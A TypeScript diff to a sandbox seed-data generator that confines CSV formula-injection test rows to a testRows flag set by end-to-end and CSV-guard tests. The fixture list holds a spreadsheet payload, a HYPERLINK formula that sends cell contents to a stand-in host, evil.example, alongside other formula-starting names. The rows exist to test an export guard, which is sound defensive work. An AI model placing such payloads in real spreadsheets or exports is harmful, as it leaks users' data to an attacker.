@@ -7,7 +7,8 @@ import type { Random } from './random';
  * appear too, because the upstream's sets are open.
  */
 
-export const SEED_VERSION = 6;
+/** Bumped when the seed's records change: a sandbox file of another version is seeded again (db.ts). */
+export const SEED_VERSION = 7;
 const NEWEST = Date.parse('2026-11-20T16:45:12.345Z');
 
 const FIRST_NAMES = [
@@ -231,8 +232,10 @@ export type SeedProvider = ReturnType<typeof makeProvider>;
 
 /**
  * Records a spreadsheet would run as formulas if an export let them through (OWASP CSV injection):
- * a reference and names starting with each of `=`, `+`, `-`, `@`, tab and carriage return. They sit
- * among the demo account's recent listed collections.
+ * a reference and names starting with each of `=`, `+`, `-`, `@`, tab and carriage return. Test rows only
+ * (`testRows`: SANDBOX_TEST_ROWS=1, which e2e/server.ts and the CSV guard's tests set): a newcomer's
+ * sandbox holds none, for they look like bugs. With them on they sit among the demo account's recent listed
+ * collections, in place of the fields those records would have had (the same records, the same counts).
  */
 export const FORMULA_INJECTIONS = [
   { reference: '=HYPERLINK("https://evil.example/?leak="&A1,"Pay now")', firstName: '=1+2', lastName: 'Okafor' },
@@ -266,9 +269,10 @@ function returning(seq: number, own: SeedContact, last: { regular?: SeedContact;
 
 /**
  * Every account's records, newest first. Non-integrated collections are spread
- * through the account's history so they hide between listed ones.
+ * through the account's history so they hide between listed ones; the formula-injection rows only with
+ * `testRows`.
  */
-export function* generate(r: Random, account: SeedAccount) {
+export function* generate(r: Random, account: SeedAccount, testRows = false) {
   let t = NEWEST - (account.id === 'acc_demo' ? 0 : 3 * 3_600_000);
   const every = Math.max(1, Math.floor(account.collections / (account.nonIntegrated + 1)));
   const customers: { regular?: SeedContact; wholesale?: SeedContact } = {};
@@ -276,7 +280,8 @@ export function* generate(r: Random, account: SeedAccount) {
     const integrated = !(seq > 0 && seq % every === 0 && seq / every <= account.nonIntegrated);
     const record = makeCollection(r, account.collections - seq, t, integrated);
     record.contact = { ...returning(seq, record.contact, customers) };
-    const injection = account.id === 'acc_demo' && integrated ? FORMULA_INJECTIONS[seq - INJECTIONS_FROM] : undefined;
+    const injection =
+      testRows && account.id === 'acc_demo' && integrated ? FORMULA_INJECTIONS[seq - INJECTIONS_FROM] : undefined;
     if (injection) {
       record.reference = injection.reference;
       record.contact.firstName = injection.firstName;
